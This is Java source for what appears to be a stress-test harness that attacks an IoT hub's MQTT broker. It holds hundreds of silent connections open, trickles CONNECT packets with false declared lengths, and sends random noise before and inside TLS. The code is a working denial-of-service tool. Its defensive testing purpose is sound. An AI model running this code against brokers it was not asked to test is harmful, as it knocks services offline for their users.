package io.edgeagent.load;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.file.Path;
import java.security.GeneralSecurityException;
import java.time.Duration;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.SplittableRandom;
import java.util.concurrent.locks.LockSupport;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;

/**
 * A client that means harm, until it is stopped: connections without a word, by the thousand; CONNECT that trickles; lengths that
 * are never kept; noise before and inside of TLS. It needs no identity.
 *
 * <pre>
 * Attack MODULES IOTHUB TARGET   says READY when all of it is under way
 * </pre>
 */
public final class Attack {
    /** That it keeps open at a time. */
    private static final int SILENT = 900;

    private static final int TRICKLING = 50;
    private static final Duration PAUSE = Duration.ofMillis(1);
    /** A connection with TLS costs the attacker as much as the one attacked: one of so many. */
    private static final int ONE_OF = 20;
    /** CONNECT of 300 KB, as it says. */
    private static final byte[] ANNOUNCED = {0x10, (byte) 0xE0, (byte) 0xA7, 0x12, 0, 4};

    private final InetSocketAddress target;
    private final SSLContext tls;
    private final SplittableRandom random = new SplittableRandom(14);
    private final Deque<Socket> silent = new ArrayDeque<>();
    private final Deque<Socket> trickling = new ArrayDeque<>();

    private Attack(LoadTarget target) {
        this.target = target.broker();
        this.tls = target.tls();
    }

    public static void main(String[] args) throws IOException, GeneralSecurityException {
        Attack attack = new Attack(LoadTarget.of(args[2], Path.of(args[0]), args[1]));
        for (int i = 0; !Thread.currentThread().isInterrupted(); i++) {
            if (i == SILENT) {
                System.out.println("READY");
            }
            attack.once(i);
            LockSupport.parkNanos(PAUSE.toNanos());
        }
    }

    private void once(int number) {
        try {
            if (number % ONE_OF > 0) {
                keep(silent, SILENT, new Socket(target.getAddress(), target.getPort()));
                return;
            }
            switch (number / ONE_OF % 3) {
                case 0 -> trickle();
                case 1 -> send(new Socket(target.getAddress(), target.getPort()), noise(16_000));
                default -> send(secured(), noise(2000));
            }
        } catch (IOException e) {
            // refused, which is what should happen
        }
    }

    private void trickle() throws IOException {
        SSLSocket socket = secured();
        socket.getOutputStream().write(ANNOUNCED);
        keep(trickling, TRICKLING, socket);
        for (Socket slow : trickling) {
            slow.getOutputStream().write('M');
        }
    }

    private SSLSocket secured() throws IOException {
        return (SSLSocket) tls.getSocketFactory().createSocket(target.getAddress(), target.getPort());
    }

    private byte[] noise(int length) {
        byte[] bytes = new byte[random.nextInt(1, length)];
        random.nextBytes(bytes);
        return bytes;
    }

    private static void send(Socket socket, byte[] bytes) throws IOException {
        try (socket) {
            OutputStream out = socket.getOutputStream();
            out.write(bytes);
            out.flush();
        }
    }

    private static void keep(Deque<Socket> sockets, int most, Socket next) throws IOException {
        if (sockets.size() == most) {
            sockets.remove().close();
        }
        sockets.add(next);
    }
}
